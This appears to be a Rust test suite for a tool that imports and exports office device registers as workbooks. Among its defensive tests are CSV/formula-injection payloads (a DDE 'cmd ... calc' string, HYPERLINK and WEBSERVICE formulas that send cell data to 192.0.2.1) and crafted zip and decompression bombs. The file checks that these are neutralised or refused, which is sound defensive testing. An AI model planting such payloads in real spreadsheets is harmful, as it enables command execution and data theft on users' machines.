//! Registers in workbooks as offices keep them, and workbooks that are made to do harm.

use std::io::{Cursor, Write as _};

use inventory::register::{
    DeviceEntry, DeviceStatus, Entry, Form, Format, Import, IssuerEntry, Place, ReadError,
    SoftwareEntry, read, read_at, to_csv, to_xlsx,
};
use model::Timestamp;
use proptest::prelude::*;
use rust_xlsxwriter::{ExcelDateTime, Format as Style, Formula, Workbook, Worksheet};
use zip::{CompressionMethod, ZipWriter, write::SimpleFileOptions};

const NOW: Timestamp = Timestamp::from_seconds(1_795_339_800);

/// What fills a sheet.
type Fill<'a> = &'a dyn Fn(&mut Worksheet);

/// A workbook with these sheets.
fn book(sheets: &[(&str, Fill<'_>)]) -> Vec<u8> {
    let mut book = Workbook::new();
    for (name, fill) in sheets {
        let sheet = book.add_worksheet();
        sheet.set_name(*name).unwrap();
        fill(sheet);
    }
    book.save_to_buffer().unwrap()
}

fn rows(sheet: &mut Worksheet, from: u32, rows: &[&[&str]]) {
    for (row, cells) in (from..).zip(rows) {
        for (column, cell) in (0..).zip(*cells) {
            sheet.write_string(row, column, *cell).unwrap();
        }
    }
}

#[track_caller]
fn devices(bytes: &[u8]) -> Import<DeviceEntry> {
    let import = read::<DeviceEntry>(bytes).unwrap();
    assert_eq!((&import.errors[..], &import.warnings[..]), (&[][..], &[][..]));
    import
}

#[track_caller]
fn refused(bytes: &[u8], part: &str) {
    let told = read::<DeviceEntry>(bytes).unwrap_err().to_string();
    assert!(told.contains(part), "{told}");
}

/// A zip archive of these parts, packed.
fn archive(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut archive = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
    for (name, bytes) in parts {
        archive.start_file(*name, options).unwrap();
        archive.write_all(bytes).unwrap();
    }
    archive.finish().unwrap().into_inner()
}

/// A workbook of the least parts, with this sheet and these texts.
fn bare(sheet: &[u8], strings: &[u8]) -> Vec<u8> {
    let kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let relation = |id: &str, what: &str, target: &str| {
        format!("<Relationship Id=\"{id}\" Type=\"{kind}/{what}\" Target=\"{target}\"/>")
    };
    let relations = |inner: String| {
        format!(
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
             {inner}</Relationships>"
        )
    };
    let book = format!(
        "<workbook xmlns:r=\"{kind}\"><sheets><sheet name=\"a\" sheetId=\"1\" r:id=\"r1\"/></sheets>\
         </workbook>"
    );
    archive(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("_rels/.rels", relations(relation("r1", "officeDocument", "xl/workbook.xml")).as_bytes()),
        ("xl/workbook.xml", book.as_bytes()),
        (
            "xl/_rels/workbook.xml.rels",
            relations(
                relation("r1", "worksheet", "worksheets/sheet1.xml")
                    + &relation("r2", "sharedStrings", "sharedStrings.xml"),
            )
            .as_bytes(),
        ),
        ("xl/sharedStrings.xml", strings),
        ("xl/worksheets/sheet1.xml", sheet),
    ])
}

fn bare_rows(rows: &str) -> Vec<u8> {
    format!("<worksheet><sheetData>{rows}</sheetData></worksheet>").into_bytes()
}

#[test]
fn an_office_workbook_is_read() {
    let zeros = Style::new().set_num_format("000000");
    let date = Style::new().set_num_format("yyyy/m/d");
    let era = Style::new().set_num_format("[$-ja-JP]ggge\"年\"m\"月\"d\"日\";@");
    let bytes = book(&[("機器台帳", &|sheet| {
        sheet.write_string(0, 1, "承認機器一覧").unwrap();
        sheet.write_string(1, 1, "2026年11月現在").unwrap();
        rows(
            sheet,
            3,
            &[&["管理番号", "MACアドレス", "IPアドレス", "有効期限", "承認日", "備考", "台数"]],
        );
        sheet.write_number_with_format(4, 0, 123, &zeros).unwrap();
        rows(sheet, 5, &[&["０００１２４", "００１１．２２３３．４４６６", "１９２．０．２．８"]]);
        sheet.write_string(4, 1, "00-11-22-33-44-55").unwrap();
        sheet.write_string(4, 2, "192.0.2.7").unwrap();
        let end = ExcelDateTime::from_ymd(2027, 3, 31).unwrap();
        sheet.write_datetime_with_format(4, 3, &end, &date).unwrap();
        sheet.write_datetime_with_format(5, 3, &end, &era).unwrap();
        sheet.write_number(4, 4, 46_348).unwrap();
        sheet.write_string(4, 5, "会議室\n本館").unwrap();
        sheet.write_number(4, 6, 1).unwrap();
        // What was once formatted is a row and a column, and says nothing.
        for row in 6..500 {
            sheet.write_blank(row, 40, &zeros).unwrap();
        }
    })]);
    let import = devices(&bytes);
    let expected =
        Form::Sheet { format: Format::Xlsx, name: "機器台帳".into(), others: vec![] };
    assert_eq!((import.form, import.heading_line), (expected, 4));
    assert_eq!(import.unknown_columns, ["備考", "台数"]);
    let [one, two] = &import.entries[..] else { panic!("{:?}", import.entries) };
    assert_eq!((one.reference.as_str(), two.reference.as_str()), ("000123", "０００１２４"));
    assert_eq!(one.valid_until.unwrap().to_string(), "2027-03-31");
    assert_eq!(two.valid_until, one.valid_until);
    assert_eq!(one.valid_from.unwrap().to_string(), "2026-11-22");
    assert_eq!((one.extra["備考"].as_str(), one.extra["台数"].as_str()), ("会議室\n本館", "1"));
    assert_eq!(two.macs[0].to_string(), "00:11:22:33:44:66");
}

#[test]
fn merged_cells_say_the_same_for_all_that_they_cover() {
    let plain = Style::new();
    let bytes = book(&[("a", &|sheet| {
        sheet.merge_range(0, 0, 0, 4, "社内機器一覧", &plain).unwrap();
        sheet.merge_range(1, 0, 2, 0, "管理番号", &plain).unwrap();
        sheet.merge_range(1, 1, 2, 1, "部署", &plain).unwrap();
        sheet.merge_range(1, 2, 1, 3, "ネットワーク", &plain).unwrap();
        sheet.merge_range(1, 4, 2, 4, "備考", &plain).unwrap();
        rows(sheet, 2, &[&["", "", "MACアドレス", "IPアドレス"]]);
        rows(sheet, 3, &[&["PC-1", "", "00:11:22:33:44:01", "192.0.2.1"]]);
        rows(sheet, 4, &[&["PC-2", "", "00:11:22:33:44:02", "192.0.2.2"]]);
        rows(sheet, 5, &[&["PC-3", "営業部", "00:11:22:33:44:03", "192.0.2.3"]]);
        sheet.merge_range(3, 1, 4, 1, "総務部", &plain).unwrap();
    })]);
    let import = devices(&bytes);
    assert_eq!((import.heading_line, import.unknown_columns), (3, vec!["備考".to_owned()]));
    let departments: Vec<_> =
        import.entries.iter().map(|e| e.department.clone().unwrap()).collect();
    assert_eq!(departments, ["総務部", "総務部", "営業部"]);

    // One heading over two columns is the heading of both, and its second row is none.
    let bytes = book(&[("a", &|sheet| {
        sheet.merge_range(0, 0, 1, 0, "管理番号", &plain).unwrap();
        sheet.merge_range(0, 1, 0, 2, "MACアドレス", &plain).unwrap();
        rows(sheet, 1, &[&["", "有線", "無線"]]);
        rows(sheet, 2, &[&["PC-1", "00:11:22:33:44:01", "00:11:22:33:44:02"]]);
    })]);
    let [one] = &devices(&bytes).entries[..] else { panic!() };
    assert_eq!(one.macs.len(), 2);

    // What stands beside a merged heading is a device, and no part of the headings.
    let bytes = book(&[("a", &|sheet| {
        rows(sheet, 0, &[&["管理番号", "MACアドレス"]]);
        sheet.merge_range(0, 2, 2, 2, "備考", &plain).unwrap();
        rows(sheet, 1, &[&["PC-1", "00:11:22:33:44:01"], &["PC-2", "00:11:22:33:44:02"]]);
        rows(sheet, 3, &[&["PC-3", "00:11:22:33:44:03", "x"]]);
    })]);
    let references: Vec<_> = devices(&bytes).entries.into_iter().map(|e| e.reference).collect();
    assert_eq!(references, ["PC-1", "PC-2", "PC-3"]);
}

#[test]
fn the_sheet_is_found_or_named_and_never_guessed() {
    let headings: &[&str] = &["管理番号", "MAC", "管理者"];
    let old = |sheet: &mut Worksheet| {
        rows(sheet, 0, &[headings, &["OLD-1", "00:11:22:33:44:01", "佐藤"]]);
        sheet.set_hidden(true);
    };
    let now = |sheet: &mut Worksheet| {
        rows(sheet, 0, &[headings, &["PC-1", "00:11:22:33:44:02", "田中"]]);
    };
    let notes = |sheet: &mut Worksheet| rows(sheet, 0, &[&["No.", "変更"], &["1", "作成"]]);
    let bytes = book(&[("表紙", &|_| {}), ("改訂履歴", &notes), ("2025", &old), ("2026", &now)]);
    let import = devices(&bytes);
    assert_eq!(import.entries[0].reference, "PC-1");
    let expected =
        Form::Sheet {
            format: Format::Xlsx, name: "2026".into(), others: vec!["改訂履歴".into()]
        };
    assert_eq!(import.form, expected);
    // A hidden sheet is read where it is named.
    let at = |sheet: &str, line| {
        let place = Place { sheet: Some(sheet.to_owned()), heading_line: line };
        read_at::<DeviceEntry>(&bytes, &place).map(|import| import.entries)
    };
    assert_eq!(at("2025", None).unwrap()[0].reference, "OLD-1");
    assert_eq!(at("2025", Some(1)).unwrap().len(), 1);
    let told = at("2025", Some(2)).unwrap_err().to_string();
    assert!(told.starts_with("line 2 has no headings of a device register"), "{told}");
    let told = at("2024", None).unwrap_err().to_string();
    assert_eq!(told, "there is no sheet \"2024\": the workbook has 表紙, 改訂履歴, 2025, 2026");

    let both = book(&[("東京", &now), ("大阪", &now)]);
    refused(&both, "name one with --sheet (東京, 大阪)");
    refused(&book(&[("a", &|_| {})]), "the file is empty");
    refused(&book(&[("a", &|sheet| rows(sheet, 0, &[&["x"]]))]), "no heading row for a device");
}

#[test]
fn the_heading_line_of_text_is_named_by_its_number() {
    let csv = b"mac,owner\n00:11:22:33:44:01,a\nmac,name\n00:11:22:33:44:02,b\n";
    let at = |line, sheet: Option<&str>| {
        let place = Place { sheet: sheet.map(str::to_owned), heading_line: Some(line) };
        read_at::<DeviceEntry>(csv, &place)
    };
    let import = at(3, None).unwrap();
    assert_eq!((import.heading_line, import.entries.len()), (3, 1));
    assert_eq!(import.entries[0].name.as_deref(), Some("b"));
    assert!(matches!(at(2, None), Err(ReadError::NoHeadingThere { line: 2, .. })));
    assert!(matches!(at(9, None), Err(ReadError::NoHeadingThere { line: 9, .. })));
    assert!(matches!(at(1, Some("a")), Err(ReadError::NoWorkbook)));
}

#[test]
fn columns_without_a_heading_are_kept_and_empty_ones_are_not() {
    let bytes = book(&[("a", &|sheet| {
        sheet.write_string(0, 1, "MAC").unwrap();
        sheet.write_string(0, 4, "owner").unwrap();
        sheet.write_string(1, 1, "00:11:22:33:44:01").unwrap();
        sheet.write_string(1, 6, "beside").unwrap();
    })]);
    let import = devices(&bytes);
    assert_eq!(import.unknown_columns, ["column 7"]);
    assert_eq!(import.entries[0].extra["column 7"], "beside");
    // Further to the right than any register has columns.
    let bytes = book(&[("a", &|sheet| {
        rows(sheet, 0, &[&["MAC"], &["00:11:22:33:44:01"]]);
        sheet.write_string(1, 9_000, "far").unwrap();
    })]);
    let import = read::<DeviceEntry>(&bytes).unwrap();
    assert!(import.entries.is_empty());
    assert!(import.errors[0].to_string().contains("line 2: it has"), "{}", import.errors[0]);
}

#[test]
fn a_formula_gives_the_value_that_was_saved_with_it() {
    let bytes = book(&[("a", &|sheet| {
        rows(sheet, 0, &[&["MAC", "owner", "name", "承認"]]);
        sheet.write_string(1, 0, "00:11:22:33:44:01").unwrap();
        sheet.write_formula(1, 1, Formula::new("=VLOOKUP(1,b!A:B,2)").set_result("佐藤")).unwrap();
        let call = Formula::new("=WEBSERVICE(\"http://192.0.2.1/\"&A2)").set_result("#VALUE!");
        sheet.write_formula(1, 2, call).unwrap();
        sheet.write_formula(1, 3, Formula::new("=1=1").set_result("○")).unwrap();
    })]);
    let [one] = &devices(&bytes).entries[..] else { panic!() };
    assert_eq!((one.owner.as_deref(), one.name.as_deref()), (Some("佐藤"), Some("#VALUE!")));
    assert_eq!(one.status, DeviceStatus::Approved);
}

#[test]
fn what_a_spreadsheet_would_compute_is_written_as_text() {
    let cell = |text: &str| format!("00:11:22:33:44:01,\"{}\"\n", text.replace('"', "\"\""));
    for attack in [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "＝1+1",
        "=HYPERLINK(\"http://192.0.2.1?x=\"&A1,\"click\")",
        "'=1",
        "\"=1",
    ] {
        let entries = read::<DeviceEntry>(format!("mac,備考\n{}", cell(attack)).as_bytes());
        let entries = entries.unwrap().entries;
        let workbook = to_xlsx(&entries, NOW).unwrap();
        let mut parts = zip::ZipArchive::new(Cursor::new(&workbook[..])).unwrap();
        let sheet = parts.by_name("xl/worksheets/sheet1.xml").unwrap();
        let sheet = std::io::read_to_string(sheet).unwrap();
        assert!(!sheet.contains("<f>"), "{attack}: {sheet}");
        assert_eq!(read::<DeviceEntry>(&workbook).unwrap().entries, entries, "{attack}");
        assert_eq!(read::<DeviceEntry>(&to_csv(&entries)).unwrap().entries, entries, "{attack}");
    }
}

#[test]
fn a_workbook_of_ours_is_for_people_and_the_same_each_time() {
    let csv = "管理番号,MAC,有効期限,備考\n0001,00:11:22:33:44:01,2027-03-31,\"a\nb\"\n";
    let entries = read::<DeviceEntry>(csv.as_bytes()).unwrap().entries;
    let workbook = to_xlsx(&entries, NOW).unwrap();
    assert_eq!(workbook, to_xlsx(&entries, NOW).unwrap());
    let mut parts = zip::ZipArchive::new(Cursor::new(&workbook[..])).unwrap();
    let mut part = |name| std::io::read_to_string(parts.by_name(name).unwrap()).unwrap();
    assert!(part("docProps/core.xml").contains("2026-11-22T"));
    let sheet = part("xl/worksheets/sheet1.xml");
    // The day is a number with a format, the headings stay and can be filtered.
    assert!(sheet.contains("<v>46477</v>"), "{sheet}");
    assert!(sheet.contains("state=\"frozen\"") && sheet.contains("<autoFilter"));
    let long = "x".repeat(20_000);
    let csv = format!("mac,mac 2,owner,a\n00:11:22:33:44:01,,{long},{long}\n");
    let mut entries = read::<DeviceEntry>(csv.as_bytes()).unwrap().entries;
    to_xlsx(&entries, NOW).unwrap();
    entries[0].extra.insert("a".into(), long.repeat(2));
    let told = to_xlsx(&entries, NOW).unwrap_err().to_string();
    assert!(told.contains("00:11:22:33:44:01 has more in \"a\""), "{told}");
}

#[test]
fn the_dates_of_old_macs_are_four_years_later() {
    let rows = "<row r=\"1\"><c t=\"inlineStr\"><is><t>mac</t></is></c><c t=\"inlineStr\"><is><t>valid until</t></is></c></row>\
         <row r=\"2\"><c t=\"inlineStr\"><is><t>00:11:22:33:44:01</t></is></c><c s=\"0\"><v>45015</v></c></row>";
    let styles = b"<styleSheet><cellXfs><xf numFmtId=\"14\"/></cellXfs></styleSheet>";
    let kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    for (epoch, expected) in [("", "2023-03-30"), ("<workbookPr date1904=\"1\"/>", "2027-03-31")] {
        let book = format!(
            "<workbook xmlns:r=\"{kind}\">{epoch}<sheets><sheet name=\"a\" sheetId=\"1\" r:id=\"r1\"/>\
             </sheets></workbook>"
        );
        let relations = format!(
            "<Relationships><Relationship Id=\"r1\" Type=\"{kind}/worksheet\" Target=\"worksheets/sheet1.xml\"/>\
             <Relationship Id=\"r2\" Type=\"{kind}/styles\" Target=\"styles.xml\"/></Relationships>"
        );
        let root = format!(
            "<Relationships><Relationship Id=\"r1\" Type=\"{kind}/officeDocument\" Target=\"xl/workbook.xml\"/>\
             </Relationships>"
        );
        let bytes = archive(&[
            ("[Content_Types].xml", b"<Types/>"),
            ("_rels/.rels", root.as_bytes()),
            ("xl/workbook.xml", book.as_bytes()),
            ("xl/_rels/workbook.xml.rels", relations.as_bytes()),
            ("xl/styles.xml", styles),
            ("xl/worksheets/sheet1.xml", &bare_rows(rows)),
        ]);
        let [one] = &devices(&bytes).entries[..] else { panic!() };
        assert_eq!(one.valid_until.unwrap().to_string(), expected);
    }
}

#[test]
fn what_unpacks_too_far_is_refused_before_it_is_held() {
    refused(&bare(&vec![b' '; 8 << 20], b"<sst/>"), "200 times its size");
    // One text, said by every cell.
    let text = "x".repeat(32_000);
    let strings = format!("<sst><si><t>mac</t></si><si><t>{text}</t></si></sst>");
    let cells = "<c t=\"s\"><v>1</v></c>".repeat(200);
    let rows = "<row><c t=\"s\"><v>0</v></c></row>".to_owned()
        + &(0..100).map(|_| format!("<row>{cells}</row>")).collect::<String>();
    refused(&bare(&bare_rows(&rows), strings.as_bytes()), "64 MiB of text");
}

#[test]
fn a_workbook_of_very_many_sheets_is_refused() {
    let mut many = Workbook::new();
    for _ in 0..257 {
        many.add_worksheet();
    }
    refused(&many.save_to_buffer().unwrap(), "more than 256 sheets");
    let sheets: String =
        (0..257).map(|at| format!("<table:table table:name=\"{at}\"></table:table>")).collect();
    let kind = b"application/vnd.oasis.opendocument.spreadsheet";
    let parts: [(&str, &[u8]); 3] = [
        ("mimetype", kind),
        ("META-INF/manifest.xml", b"<m/>"),
        ("content.xml", sheets.as_bytes()),
    ];
    refused(&archive(&parts), "more than 256 sheets");
}

#[test]
fn a_text_merged_over_a_whole_column_is_refused_before_it_is_held() {
    let text = "x".repeat(3 << 20);
    let strings = format!("<sst><si><t>mac</t></si><si><t>{text}</t></si><si><t>a</t></si></sst>");
    let cell = |place: String, text: u32| format!("<c r=\"{place}\" t=\"s\"><v>{text}</v></c>");
    let heading = format!("<row>{}</row>", cell("A1".into(), 0));
    let first = format!("<row>{}{}</row>", cell("A2".into(), 2), cell("B2".into(), 1));
    let others: String =
        (3..33).map(|row| format!("<row>{}</row>", cell(format!("A{row}"), 2))).collect();
    let sheet = format!(
        "<worksheet><sheetData>{heading}{first}{others}</sheetData>\
         <mergeCells><mergeCell ref=\"B2:B40\"/></mergeCells></worksheet>"
    );
    refused(&bare(sheet.as_bytes(), strings.as_bytes()), "64 MiB in merged cells");
}

fn sample(name: &str) -> Vec<u8> {
    std::fs::read(format!("{}/../tests/registers/{name}", env!("CARGO_MANIFEST_DIR"))).unwrap()
}

/// The three were saved by LibreOffice from one sheet: a title, headings over two rows, a department
/// over two rows, a number shown with zeros, a comment, a hidden sheet of last year, a million
/// repeated rows.
#[test]
fn one_register_is_the_same_in_every_format() {
    for (name, format) in
        [("devices.xlsx", Format::Xlsx), ("devices.xls", Format::Xls), ("devices.ods", Format::Ods)]
    {
        let import = devices(&sample(name));
        let expected = Form::Sheet { format, name: "2026年度".into(), others: vec![] };
        assert_eq!((import.form, import.heading_line), (expected, 5), "{name}");
        let [one, two] = &import.entries[..] else { panic!("{:?}", import.entries) };
        // calamine does not tell of formats in old workbooks.
        let shown = if format == Format::Xls { "123" } else { "000123" };
        assert_eq!((one.reference.as_str(), two.reference.as_str()), (shown, "PC-2"), "{name}");
        assert_eq!(one.macs[0].to_string(), "00:11:22:33:44:01");
        assert_eq!((one.department.as_deref(), &two.department), (Some("総務部"), &one.department));
        assert_eq!(one.valid_until.unwrap().to_string(), "2027-03-31");
        assert_eq!(two.valid_until, one.valid_until);
        assert_eq!(one.extra["備考"], "一行目 & more\n二行目  末");
        assert_eq!(two.extra["備考"], "2");
        let place = Place { sheet: Some("2025年度".into()), heading_line: None };
        let import = read_at::<DeviceEntry>(&sample(name), &place).unwrap();
        assert_eq!(import.entries[0].reference, "OLD-1");
    }
}

#[test]
fn an_old_workbook_is_counted_before_it_is_read() {
    let good = sample("devices.xls");
    let patched = |from: &[u8], to: &dyn Fn(&mut [u8])| {
        let mut bytes = good.clone();
        let at = bytes.windows(from.len()).rposition(|window| window == from).unwrap();
        to(&mut bytes[at..at + 18]);
        bytes
    };
    // A cell in the far corner makes the sheet a rectangle of 16 million.
    let corner = patched(&[0xfd, 0, 10, 0], &|record| record[4..8].copy_from_slice(&[255; 4]));
    refused(&corner, "more than 4000000 cells");
    let announced =
        patched(&[0, 2, 14, 0], &|record| record[8..12].copy_from_slice(&[0xff, 0xff, 0xff, 0x7f]));
    refused(&announced, "announces more rows or columns than there can be");
    let locked = patched(&[0xe1, 0, 2, 0], &|record| record[0] = 0x2f);
    refused(&locked, "the workbook is encrypted: open it with its password");
}

#[test]
fn what_is_no_register_is_named() {
    let part: &[u8] = b"x";
    refused(&archive(&[("word/document.xml", part)]), "this is a Word document");
    refused(&archive(&[("ppt/presentation.xml", part)]), "PowerPoint");
    refused(&archive(&[("a.txt", part)]), "a zip archive without a workbook");
    refused(b"PK\x03\x04 and nothing", "a zip archive, or a workbook, that is damaged");
    refused(&bare(b"<worksheet><sheetData><row>", b"<sst/>"), "is damaged");
    refused(&archive(&[("xl/workbook.xml", part)]), "is damaged");
    let mut cut = book(&[("a", &|sheet| rows(sheet, 0, &[&["mac"]]))]);
    cut.truncate(cut.len() / 2);
    refused(&cut, "damaged");
    refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "is damaged");
}

/// A text that an entry can hold and a workbook too.
fn text() -> impl Strategy<Value = Option<String>> {
    let some = "[ -~あ-んア-ン＝＋－＠'\n\t_x0-9A-F\u{1}\u{1f}🖨]{1,16}";
    prop::option::of(some.prop_map(|text| text.trim().to_owned()).prop_filter("empty", |text| {
        // Reading takes off what is in front, and an apostrophe before a formula.
        let again = read::<DeviceEntry>(
            format!("mac,x\n00:11:22:33:44:01,\"{}\"\n", text.replace('"', "\"\"")).as_bytes(),
        );
        again.is_ok_and(|import| {
            import.entries.first().is_some_and(|entry| entry.extra.get("x") == Some(text))
        })
    }))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn every_entry_comes_back_from_a_workbook(
        rows in prop::collection::vec((text(), text(), text(), 0_u8..255), 1..6)
    ) {
        let mut entries = read::<DeviceEntry>(b"mac\n00:11:22:33:44:01\n").unwrap().entries;
        let first = entries.remove(0);
        for (number, (owner, purpose, other, last)) in rows.into_iter().enumerate() {
            let mut entry = first.clone();
            entry.reference = format!("{number:05}");
            entry.macs[0].0[5] = last;
            entry.owner = owner;
            entry.purpose = purpose;
            entry.valid_until = Some("2027-03-31".parse().unwrap());
            entry.extra.extend(other.map(|text| ("備考 (その他)".to_owned(), text)));
            entries.push(entry);
        }
        let workbook = to_xlsx(&entries, NOW).unwrap();
        let import = read::<DeviceEntry>(&workbook).unwrap();
        prop_assert_eq!(&import.errors, &vec![]);
        prop_assert_eq!(import.entries, entries);
    }

    #[test]
    fn a_damaged_workbook_panics_nobody(at in any::<prop::sample::Index>(), byte in any::<u8>()) {
        let mut bytes = book(&[("a", &|sheet| {
            rows(sheet, 0, &[&["mac", "owner"], &["00:11:22:33:44:01", "x"]]);
        })]);
        let place = at.index(bytes.len());
        bytes[place] = byte;
        let _ = read::<DeviceEntry>(&bytes);
        for name in ["devices.xls", "devices.ods"] {
            let mut bytes = sample(name);
            let place = at.index(bytes.len());
            bytes[place] = byte;
            let _ = read::<DeviceEntry>(&bytes);
        }
    }
}

#[test]
fn the_other_registers_come_back_too() {
    let software = "product,publisher,version,status,support ends,scope,note\n\
                    OpenSSH,OpenBSD,\">= 9.2, < 10\",approved,2027-01-01,192.0.2.0/24,=x\n\
                    telnet,,,forbidden,,,\n";
    let entries = read::<SoftwareEntry>(software.as_bytes()).unwrap().entries;
    assert_eq!(read::<SoftwareEntry>(&to_xlsx(&entries, NOW).unwrap()).unwrap().entries, entries);
    let issuers = format!("issuer,certificate sha256,key sha256\nRoot,{},\n", "ab".repeat(32));
    let entries = read::<IssuerEntry>(issuers.as_bytes()).unwrap().entries;
    assert_eq!(read::<IssuerEntry>(&to_xlsx(&entries, NOW).unwrap()).unwrap().entries, entries);
    let none: Vec<IssuerEntry> = Vec::new();
    assert_eq!(read::<IssuerEntry>(&to_xlsx(&none, NOW).unwrap()).unwrap().entries, none);
    assert_eq!(entries[0].label(), "Root");
}

/// `cargo test --release -p daicho-inventory --test workbooks speed -- --nocapture` prints what it
/// takes on your machine.
#[test]
#[expect(clippy::print_stdout, reason = "it is for whoever measures")]
fn speed_of_large_workbooks() {
    let (entries, empty) = if cfg!(debug_assertions) { (500, 5_000) } else { (10_000, 1_000_000) };
    let lines: String = (0..entries)
        .map(|n| {
            let [_, a, b, c] = u32::to_be_bytes(n);
            format!(
                "R-{n},00:11:22:{a:02x}:{b:02x}:{c:02x},10.0.{b}.{c},田中,2027-03-31,\"a\nb\"\n"
            )
        })
        .collect();
    let csv = format!("管理番号,MAC,IP,管理者,有効期限,備考\n{lines}");
    let list = read::<DeviceEntry>(csv.as_bytes()).unwrap().entries;
    let began = std::time::Instant::now();
    let workbook = to_xlsx(&list, NOW).unwrap();
    println!("{entries} entries written as xlsx, {} bytes: {:?}", workbook.len(), began.elapsed());
    let began = std::time::Instant::now();
    assert_eq!(read::<DeviceEntry>(&workbook).unwrap().entries, list);
    println!("read again: {:?}", began.elapsed());
    let mut text = String::from(
        "<row r=\"1\"><c t=\"inlineStr\"><is><t>mac</t></is></c></row>\
         <row r=\"2\"><c t=\"inlineStr\"><is><t>00:11:22:33:44:01</t></is></c></row>",
    );
    for row in 3..empty {
        text.push_str(&format!("<row r=\"{row}\"><c r=\"A{row}\" s=\"1\"/></row>"));
    }
    let workbook = bare(&bare_rows(&text), b"<sst/>");
    let began = std::time::Instant::now();
    assert_eq!(devices(&workbook).entries.len(), 1);
    println!("{empty} empty rows, {} bytes packed: {:?}", workbook.len(), began.elapsed());
}
